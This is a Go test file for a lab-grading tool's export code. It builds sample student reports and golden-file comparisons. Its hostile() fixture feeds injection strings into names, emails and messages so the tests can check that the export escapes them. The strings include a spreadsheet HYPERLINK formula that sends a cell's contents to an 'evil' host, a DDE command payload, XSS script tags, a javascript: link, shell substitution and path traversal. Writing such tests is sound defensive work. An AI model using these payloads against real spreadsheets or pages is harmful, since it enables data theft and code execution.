package export

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"labctl.dev/labctl/internal/result"
)

func TestMain(m *testing.M) {
	flag.Bool("update", false, "write what comes out to the golden files")
	flag.Parse()
	os.Exit(m.Run())
}

// golden compares with a file of testdata.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if flag.Lookup("update").Value.String() == "true" {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// hostile is what somebody may be called or may answer, to see what becomes of it.
func hostile() map[string]string {
	return map[string]string{
		"comma and quote":  `Doe, "J" O'Neil; x`,
		"lines":            "a\r\nb\nc\td",
		"equals":           `=HYPERLINK("http://evil/?"&A1,"x")`,
		"plus":             "+1+cmd|' /C calc'!A0",
		"minus":            "-2+3",
		"at":               "@SUM(1)",
		"tab and equals":   "\t=1+1",
		"cr and equals":    "\r=1+1",
		"space and equals": " =1+1",
		"wide equals":      "＝1+1",
		"right to left":    "user\u202etxt.exe\u2066x\u2069\u200f",
		"cdata":            "a]]>b<![CDATA[c",
		"script":           `</script><script>alert(1)</script><img src=x onerror=alert(1)>`,
		"style":            `</style><b>`,
		"attribute":        `" onmouseover="alert(1)`,
		"ansi":             "a\x1b[31mred\x1b]0;title\x07\x9b1m",
		"markdown":         "|x| `y` **z** [l](javascript:1) ![i](http://evil/i.png) <b> # h ~s~ _u_ \\| @team http://evil www.evil.com",
		"template":         "{{.Secret}} ${x} $(id)",
		"emoji":            "\U0001f469\u200d\U0001f4bb 🇫🇷",
		"zero":             "a\x00b\u200bc\ufeffd\u2028e\U000e0041",
		"not utf-8":        "a\xff\xfeb",
		"noncharacter":     "a\uffffb\ufffe",
		"path":             "../../etc/passwd",
		"device":           "CON",
		"long":             strings.Repeat("long ", 2000),
		"long word":        strings.Repeat("W", 10_000),
		"combining":        "z" + strings.Repeat("\u0301", 3000),
		"workflow":         "::error file=x::y",
		"only spaces":      "   ",
	}
}

func at(text string) time.Time {
	t, err := time.Parse(time.RFC3339, text)
	if err != nil {
		panic(err)
	}
	return t
}

// graded is a report of four checks, the last of which is hidden: 60 of 100 points.
func graded(student string) result.Report {
	submitted := at("2026-11-24T22:00:00Z")
	r := result.Report{
		Schema: result.Schema, Labctl: "v1.2.3", Lab: result.Lab{ID: "clusterip", Title: "ClusterIP, the office intercom", Version: "2"},
		Student: student, Submission: "sha256:" + strings.Repeat("ab", 32), Started: at("2026-11-25T08:00:00Z"), Finished: at("2026-11-25T08:00:41.5Z"),
		Status: result.Graded, Submitted: &submitted,
		Checks: []result.Check{
			{ID: "db-is-internal", Title: "Service db is a ClusterIP", Step: "database", Status: result.Passed, Points: 40, MaxPoints: 40, Seconds: 1.25, Message: "db is a ClusterIP",
				Evidence: []result.Evidence{{From: "pod/probe-1", To: "db:5432", Want: "an answer", Got: "an answer", Answered: "pod/db-0", Seconds: 0.004, Count: 3, OK: true}}},
			{ID: "backend-reaches-db", Title: "The backend reaches the database", Step: "database", Status: result.Failed, MaxPoints: 25, Seconds: 12.5,
				Message: "db does not answer pod/backend-75d7db5759-fjmpp at 10.96.3.4:5432: REFUSED after 3 ms", Hint: "Compare the Service's selector with the labels of the pods.",
				Evidence: []result.Evidence{
					{From: "pod/backend-75d7db5759-fjmpp", To: "10.96.3.4:5432", Want: "an answer", Got: "connection refused", Class: "REFUSED", Seconds: 0.003, Count: 12},
					{From: "cluster", To: "service/db", Want: "selector app=db", Got: "selector app=database"},
				}},
			{ID: "survives", Title: "An answer survives", Step: "last", Status: result.Skipped, MaxPoints: 15, Message: "depends on secret-check, which did not pass"},
			{ID: "secret-check", Title: "Nobody may know of this", Step: "last", Status: result.Passed, Points: 20, MaxPoints: 20, Seconds: 2, Message: "secretly fine", Visibility: "hidden"},
		},
	}
	r.Tally()
	return r
}

func late(r result.Report) result.Report {
	r.Late = &result.Late{Due: at("2026-11-23T20:30:00Z"), Rule: "10%/day,max 50%", Seconds: 91_800, Percent: 20, Points: r.Score / 5}
	return r
}

func rejected(student string) result.Report {
	return result.Report{
		Schema: result.Schema, Lab: graded("").Lab, Student: student, Started: at("2026-11-25T08:00:00Z"), Finished: at("2026-11-25T08:00:00Z"),
		Status: result.Rejected, Message: "the submission was refused", Checks: []result.Check{},
		Findings: []result.Finding{{File: "app.yaml", Document: 2, Field: "spec.template.spec.hostNetwork", Rule: "no-host", Message: "must not use the node's network"}},
	}
}

func missing(student string) result.Report {
	return result.Report{Schema: result.Schema, Lab: graded("").Lab, Student: student, Status: result.Missing, Message: "nothing was handed in", Checks: []result.Check{}}
}

// errored is a report with a check that could not be carried out.
func errored(student string) result.Report {
	r := graded(student)
	r.Checks[1].Status, r.Checks[1].Message = result.Error, "the API server does not answer"
	r.Tally()
	return r
}

// secretlyErrored is one that only a hidden check kept from being graded.
func secretlyErrored(student string) result.Report {
	r := graded(student)
	r.Checks[3].Status, r.Checks[3].Points, r.Checks[3].Message = result.Error, 0, "secret engine is away"
	r.Tally()
	return r
}

func classOf(reports ...result.Report) *Class {
	return &Class{Lab: graded("").Lab, Reports: reports}
}

// everybody is a class with all kinds of ends.
func everybody() *Class {
	a := graded("anna")
	a.Person = &result.Person{Name: "Anna Arnold", Email: "anna@example.org", Columns: map[string]string{"username": "anna", "matrikelnummer": "007"}}
	return classOf(a, late(graded("bert")), rejected("carl"), missing("dora"), errored("emil"), secretlyErrored("fred"))
}

// hostiles is a class of students who are called and answer whatever may do harm.
func hostiles() *Class {
	c := classOf()
	for _, text := range hostile() {
		for _, r := range []result.Report{graded(text), rejected(text), errored(text)} {
			r.Student += fmt.Sprint(len(c.Reports)) // after what is hostile
			r.Person = &result.Person{Name: text, Email: text, Columns: map[string]string{"Section": text, "SIS Login ID": text, "first name": text, "last name": text}}
			r.Message = text
			for i := range r.Findings {
				r.Findings[i].File, r.Findings[i].Field, r.Findings[i].Message = text, text, text
			}
			for i := range r.Checks {
				if c := &r.Checks[i]; !c.Hidden() {
					c.Message, c.Hint = text, text
					c.Evidence = append(c.Evidence, result.Evidence{From: text, To: text, Want: text, Got: text, Answered: text})
				}
			}
			c.Reports = append(c.Reports, r)
		}
	}
	return c
}

// run exports, and fails the test where that fails.
func run(t *testing.T, c *Class, format string, o Options) *Output {
	t.Helper()
	if format == "classroom50" {
		o.Environment = environment()
	}
	out, err := c.Export(format, o)
	if err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return out
}

func environment() map[string]string {
	return map[string]string{
		"CLASSROOM": "cs50", "ASSIGNMENT": "clusterip", "SUBMISSION_TAG": "submit/2026-11-24T22-00-00Z-abc1234",
		"COMMIT_URL": "https://github.com/o/r/commit/abc1234", "RELEASE_URL": "https://github.com/o/r/releases/tag/x", "REVIEW_URL": "https://github.com/o/r/compare/a...b",
	}
}

// one exports a class of one, in a format of one file.
func one(t *testing.T, r result.Report, format string) string {
	t.Helper()
	out := run(t, classOf(r), format, Options{})
	if len(out.Files) != 1 {
		t.Fatalf("%d files", len(out.Files))
	}
	return string(out.Files[0].Data)
}
